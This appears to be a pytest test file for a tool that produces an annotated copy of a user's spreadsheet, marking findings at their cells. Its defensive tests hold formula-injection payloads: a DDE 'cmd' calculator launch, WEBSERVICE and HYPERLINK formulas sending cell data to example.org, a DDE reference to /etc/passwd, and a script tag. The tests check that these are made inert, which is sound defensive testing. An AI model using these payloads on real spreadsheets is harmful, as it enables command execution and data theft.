"""The marked copy: every finding at its cell, in its colour, with its sentence; the user's file as it was."""

import datetime as dt
import io
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink

import hsesg_carbon as hc
from hsesg_carbon.findings import Finding, Where
from hsesg_carbon.report.marked import COLOURS, write_marked
from hsesg_carbon.tables import read_tables

HEADING = ["activity_id", "site", "period", "quantity", "unit"]
LETTERS = dict(zip([("bills", one) for one in HEADING], "BCDEF", strict=True))


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """A sheet of bills that begins in column B, below a title."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "bills"
    sheet["B1"] = "Bills of 2024"
    for place, name in enumerate(HEADING, start=2):
        sheet.cell(3, place).value = name
    for number in range(4, 12):
        for place, value in enumerate([f"b{number}", "hq", "2024-03", number * 10, "kWh"], start=2):
            sheet.cell(number, place).value = value
    book.create_sheet('notes\' of "2024"')["A1"] = "hello"
    book.save(tmp_path / "mine.xlsx")
    return tmp_path / "mine.xlsx"


def fault(row: int | None, column: str | None, code: str = "cell-blank", **more: Any) -> Finding:
    data = {"column": column, "value": "x", "plain": "12", "unit": "kWh", "count": 1, **more}
    severity = more.pop("severity", "error")
    where = Where(file="mine.xlsx", sheet=more.pop("sheet", "bills"), row=row, column=column)
    return Finding(code=code, severity=severity, where=where, data=data)


def colour(cell: Any) -> str | None:
    return cell.fill.fgColor.rgb if cell.fill.fill_type == "solid" else None


def opened(path: Path) -> Any:
    return openpyxl.load_workbook(path)


def marked_cells(sheet: Any) -> dict[str, str | None]:
    return {cell.coordinate: colour(cell) for row in sheet.iter_rows() for cell in row if colour(cell) or cell.comment}


def test_a_finding_is_at_its_cell_in_its_colour_with_its_sentence(source: Path) -> None:
    found = [
        fault(5, "quantity", "number-with-unit"),
        fault(6, "unit", "sheet-hidden", severity="warning"),
        fault(7, "D", "read-as-gb18030", severity="info"),
    ]
    target = source.with_name("marked.xlsx")
    assert write_marked(source, found, LETTERS, target) == 3
    sheet = opened(target)["bills"]
    assert marked_cells(sheet) == {"E5": COLOURS["error"], "F6": COLOURS["warning"], "D7": COLOURS["info"]}
    assert sheet["E5"].comment.text == f"error: {found[0].message()}"
    assert sheet["F6"].comment.text == f"warning: {found[1].message()}"
    assert sheet["D7"].comment.text == f"note: {found[2].message()}"
    assert sheet["E5"].comment.height > 50


def test_the_sentences_are_chinese_where_chinese_is_asked_for(source: Path) -> None:
    found = [fault(5, "quantity", "number-with-unit")]
    target = source.with_name("marked.xlsx")
    write_marked(source, found, LETTERS, target, "zh")
    book = opened(target)
    assert book.sheetnames == ["问题", "bills", 'notes\' of "2024"']
    assert book["bills"]["E5"].comment.text == f"错误： {found[0].message('zh')}"
    texts = [cell.value for row in book["问题"].iter_rows() for cell in row]
    assert found[0].message("zh") in texts
    assert "发现的问题：1个" in texts


def test_several_findings_of_a_cell_are_one_comment_the_worst_first(source: Path) -> None:
    found = [
        fault(5, "quantity", "sheet-hidden", severity="info"),
        fault(5, "E", "number-with-unit"),
        fault(5, "quantity", "number-with-unit"),
    ]
    target = source.with_name("marked.xlsx")
    assert write_marked(source, found, LETTERS, target) == 1
    cell = opened(target)["bills"]["E5"]
    assert colour(cell) == COLOURS["error"]
    assert cell.comment.text == f"error: {found[1].message()}\nnote: {found[0].message()}"


def test_a_comment_of_the_user_stays_below_ours(source: Path) -> None:
    book = opened(source)
    book["bills"]["E5"].comment = Comment("ask Ms Li", "me")
    book.save(source)
    target = source.with_name("marked.xlsx")
    write_marked(source, [fault(5, "quantity")], LETTERS, target)
    assert opened(target)["bills"]["E5"].comment.text.endswith("\n\nask Ms Li")


def test_a_finding_of_a_row_is_at_its_first_cell_and_one_of_a_sheet_or_file_is_listed(source: Path) -> None:
    found = [
        fault(8, None),
        fault(None, None, sheet="bills"),
        fault(4, "quantity", sheet="gone"),
        Finding(code="cell-blank", severity="error", where=Where(file="other.csv", row=2), data={"column": "x"}),
        Finding(code="cell-blank", severity="error", data={"column": "y"}),
    ]
    target = source.with_name("marked.xlsx")
    assert write_marked(source, found, LETTERS, target) == 1
    book = opened(target)
    assert list(marked_cells(book["bills"])) == ["B8"]
    rows = listed(book)
    assert [row[3] for row in rows] == ["B8", None, None, None, None]
    assert rows[3][2] == "other.csv, row 2"


def listed(book: Any) -> list[tuple[Any, ...]]:
    """Return the rows of the list, without what stands above it."""
    rows = [tuple(cell.value for cell in row) for row in book.worksheets[0].iter_rows()]
    start = next(place for place, row in enumerate(rows) if row[0] in {"No.", "序号"})
    return rows[start + 1 :]


def test_the_list_in_front_counts_the_kinds_and_links_to_every_cell(source: Path) -> None:
    found = [fault(5, "quantity", "number-with-unit"), fault(6, "quantity", "number-with-unit"), fault(6, "unit")]
    odd = Finding(
        code="cell-blank",
        severity="warning",
        where=Where(file="mine.xlsx", sheet='notes\' of "2024"', row=1, column="A"),
        data={"column": "A"},
    )
    target = source.with_name("marked.xlsx")
    write_marked(source, [*found, odd], LETTERS, target)
    book = opened(target)
    sheet = book["faults"]
    assert book.active.title == "faults"
    counts = [tuple(cell.value for cell in row[:3]) for row in sheet.iter_rows(min_row=3, max_row=5)]
    assert counts == [(1, "error", "cell-blank"), (2, "error", "number-with-unit"), (1, "warning", "cell-blank")]
    links = {row[3].value: row[3].hyperlink.location for row in sheet.iter_rows() if row[3].hyperlink}
    assert links == {
        "E5": "'bills'!E5",
        "E6": "'bills'!E6",
        "F6": "'bills'!F6",
        "A1": "'notes'' of \"2024\"'!A1",
    }
    assert [row[4] for row in listed(book)] == ["50", "60", "kWh", "hello"]  # what stands in the cells


def test_values_formats_drop_downs_widths_and_protection_stay(source: Path) -> None:
    book = opened(source)
    sheet = book["bills"]
    sheet["D4"] = dt.date(2024, 3, 1)
    sheet["D4"].number_format = 'yyyy"年"m"月"'
    sheet["E4"] = "=1+1"
    sheet["B4"] = "=text, typed so"
    sheet["B4"].data_type = "s"
    rule = DataValidation(type="list", formula1="'notes'' of \"2024\"'!$A$1:$A$9")
    rule.add("F4:F99")
    sheet.add_data_validation(rule)
    sheet.column_dimensions["C"].width = 33
    sheet.protection.sheet = True
    sheet.freeze_panes = "A4"
    sheet.row_dimensions[6].hidden = True
    book.save(source)
    before = source.read_bytes()
    target = source.with_name("marked.xlsx")
    write_marked(source, [fault(5, "quantity")], LETTERS, target)
    assert source.read_bytes() == before
    copy = opened(target)["bills"]
    again = opened(source)["bills"]
    for row in again.iter_rows():
        for cell in row:
            twin = copy[cell.coordinate]
            assert (twin.value, twin.number_format, twin.data_type) == (cell.value, cell.number_format, cell.data_type)
    assert copy["B4"].data_type == "s"
    assert [(one.formula1, str(one.sqref)) for one in copy.data_validations.dataValidation] == [
        ("'notes'' of \"2024\"'!$A$1:$A$9", "F4:F99")
    ]
    assert copy.column_dimensions["C"].width == 33
    assert copy.protection.sheet
    assert copy.freeze_panes == "A4"
    assert copy.row_dimensions[6].hidden


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("http://example.org/?q="&B4)',
        '=_xlfn.WEBSERVICE("http://example.org/")',
        '=HYPERLINK("http://example.org/?"&B4,"click")',
        "=[1]Sheet1!A1",
        "='C:\\[other.xlsx]Sheet1'!A1",
        '=IMAGE("http://example.org/a.png")',
        '=RTD("server",,"x")',
        '=1+DDE("soffice","/etc/passwd","A1")',
    ],
)
def test_a_formula_that_could_reach_outside_is_text_in_the_copy_and_named(source: Path, formula: str) -> None:
    book = opened(source)
    book["bills"]["E9"] = formula
    book.save(source)
    target = source.with_name("marked.xlsx")
    assert write_marked(source, [], LETTERS, target) == 1
    cell = opened(target)["bills"]["E9"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert b"<f>" not in b"".join(sheets)
    assert [(row[3], row[6]) for row in listed(opened(target))] == [("E9", "made-inert")]


def test_ordinary_formulas_stay_formulas(source: Path) -> None:
    formulas = ["=SUM(E4:E8)", "=bills!E4*2", "=VLOOKUP(B4,$B$4:$E$9,2,FALSE)", "=Table1[quantity]"]
    formulas += ['="a|b"&"[1]c!"', '=HYPERLINK("#bills!A1","up")']
    book = opened(source)
    for number, formula in enumerate(formulas, start=4):
        book["bills"][f"H{number}"] = formula
    book.save(source)
    target = source.with_name("marked.xlsx")
    assert write_marked(source, [], LETTERS, target) == 0
    sheet = opened(target)["bills"]
    assert [(sheet[f"H{number}"].value, sheet[f"H{number}"].data_type) for number in range(4, 10)] == [
        (formula, "f") for formula in formulas
    ]


def test_links_to_other_hosts_names_that_reach_outside_and_macros_are_not_copied(source: Path, tmp_path: Path) -> None:
    book = opened(source)
    sheet = book["bills"]
    sheet["B5"].hyperlink = "http://example.org/"
    sheet["B6"].hyperlink = Hyperlink(ref="B6", location="'bills'!E6")
    book.defined_names["far"] = openpyxl.workbook.defined_name.DefinedName("far", attr_text="[1]Sheet1!$A$1")
    book.defined_names["close"] = openpyxl.workbook.defined_name.DefinedName("close", attr_text="bills!$A$1")
    book.save(source)
    macro = tmp_path / "mine.xlsm"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(macro, "w") as new:
        for member in old.infolist():
            new.writestr(member.filename, old.read(member))
        new.writestr("xl/vbaProject.bin", b"macro")
    target = tmp_path / "marked.xlsx"
    assert write_marked(macro, [], LETTERS, target) == 1
    again = opened(target)
    assert again["bills"]["B5"].hyperlink is None
    assert again["bills"]["B5"].value == "b5"
    assert again["bills"]["B6"].hyperlink.location == "'bills'!E6"
    assert list(again.defined_names) == ["close"]
    with zipfile.ZipFile(target) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
        assert b"example.org" not in b"".join(
            archive.read(name) for name in archive.namelist() if name.endswith(".rels")
        )


def test_a_csv_file_comes_back_as_a_workbook_of_text(tmp_path: Path) -> None:
    source = tmp_path / "=evil[1].csv"
    source.write_text("Bills,,\nsite,quantity,meter\n=cmd|' /C calc'!A0,1.0,00123\nhq,12 kWh,@x\n", encoding="utf-8")
    tables = read_tables(source)
    found = [
        Finding(
            code="number-with-unit",
            severity="error",
            where=Where(file=source.name, row=4, column="quantity"),
            data={"value": "12 kWh", "plain": "12", "unit": "kWh"},
        )
    ]
    target = tmp_path / "marked.xlsx"
    assert write_marked(source, found, tables, target) == 1
    sheet = opened(target).worksheets[1]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Bills", None, None],
        ["site", "quantity", "meter"],
        ["=cmd|' /C calc'!A0", "1.0", "00123"],
        ["hq", "12 kWh", "@x"],
    ]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
    assert marked_cells(sheet) == {"B4": COLOURS["error"]}


def test_a_finding_in_a_merged_block_is_at_the_cell_that_can_be_marked(source: Path) -> None:
    book = opened(source)
    book["bills"].merge_cells("E5:E7")
    book.save(source)
    target = source.with_name("marked.xlsx")
    tables = read_tables(source)
    problems = [one for table in tables for one in table.problems]
    assert [one.code for one in problems] == ["cells-merged"]
    write_marked(source, [*problems, fault(6, "quantity")], tables, target)
    assert list(marked_cells(opened(target)["bills"])) == ["E5"]


def test_a_text_that_is_a_formula_or_a_script_is_only_text_in_the_list(source: Path) -> None:
    evil = "=cmd|' /C calc'!A0"
    one = Finding(
        code="unknown-site",
        severity="error",
        where=Where(file="mine.xlsx", sheet="bills", row=5, column="site", value=evil),
        data={"site": "<script>alert(1)</script>\x07", "known": ["hq"]},
    )
    target = source.with_name("marked.xlsx")
    write_marked(source, [one], LETTERS, target)
    row = next(row for row in opened(target)["faults"].iter_rows() if row[3].value == "C5")
    assert (row[4].value, row[4].data_type, row[4].quotePrefix) == (evil, "s", True)
    assert "<script>" in row[5].value
    assert "\x07" not in row[5].value


def test_the_source_is_never_written_over(source: Path) -> None:
    with pytest.raises(hc.InputError) as caught:
        write_marked(source, [], LETTERS, source)
    assert caught.value.code == "marked-over-source"
    with pytest.raises(hc.InputError) as caught:
        write_marked(source, [], LETTERS, source.with_suffix(".csv"))
    assert caught.value.code == "file-kind"


def test_a_sheet_that_bears_the_name_of_the_list_keeps_it(source: Path) -> None:
    book = opened(source)
    book["bills"].title = "Faults"
    book.save(source)
    target = source.with_name("marked.xlsx")
    write_marked(source, [], {}, target)
    assert opened(target).sheetnames == ["faults 2", "Faults", 'notes\' of "2024"']


def test_a_long_explanation_is_cut_and_its_comment_has_a_bearable_size(source: Path) -> None:
    many = [fault(5, "quantity", "unknown-site", site=f"s{one}" * 10, known=["hq"] * 40) for one in range(60)]
    target = source.with_name("marked.xlsx")
    write_marked(source, many, LETTERS, target)
    comment = opened(target)["bills"]["E5"].comment
    assert len(comment.text) == 2000
    assert comment.text.endswith("…")
    assert comment.height <= 500
    assert len(listed(opened(target))) == 60


def test_a_copy_read_again_has_the_same_rows_and_the_list_is_no_table_of_data(source: Path) -> None:
    target = source.with_name("marked.xlsx")
    write_marked(source, [fault(5, "quantity")], LETTERS, target)
    before = next(table for table in read_tables(source) if table.sheet == "bills")
    after = next(table for table in read_tables(target) if table.sheet == "bills")
    assert after.rows == before.rows
    assert not set(next(table for table in read_tables(target) if table.sheet == "faults").columns) & set(HEADING)


def test_a_hundred_faults_in_twenty_thousand_rows_take_seconds(tmp_path: Path) -> None:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("bills")
    sheet.append(["", *HEADING])
    for number in range(20_000):
        sheet.append(["", f"b{number}", "hq", "2024-03", number, "kWh"])
    book.save(tmp_path / "mine.xlsx")
    found = [fault(200 * one + 2, "quantity", "number-with-unit") for one in range(100)]
    before = time.process_time()
    assert write_marked(tmp_path / "mine.xlsx", found, LETTERS, tmp_path / "marked.xlsx") == 100
    assert time.process_time() - before < 40


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_copy_with_its_comments_colours_and_sums(source: Path, tmp_path: Path) -> None:
    book = opened(source)
    book["bills"]["E12"] = "=SUM(E4:E11)"
    book.save(source)
    target = tmp_path / "marked.xlsx"
    write_marked(source, [fault(5, "quantity", "number-with-unit")], LETTERS, target)
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "ods:calc8", "--outdir", str(tmp_path), str(target)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    with zipfile.ZipFile(io.BytesIO((tmp_path / "marked.ods").read_bytes())) as archive:
        content = archive.read("content.xml").decode()
    assert 'office:value="600"' in content
    assert "#ffb3b3" in content
    notes = [re.sub("<[^>]+>", "", one) for one in re.findall(r"<office:annotation .*?</office:annotation>", content)]
    assert len(notes) == 1
    assert "write 12 here" in notes[0]


def test_a_lone_cell_at_the_farthest_corner_costs_no_more_than_another(source: Path, tmp_path: Path) -> None:
    book = opened(source)
    book["bills"]["XFD1048576"] = "here"
    book.save(source)
    started = time.monotonic()
    assert write_marked(source, [fault(5, "quantity")], LETTERS, tmp_path / "copy.xlsx") == 1
    assert time.monotonic() - started < 20
    assert opened(tmp_path / "copy.xlsx")["bills"].max_row == 1048576
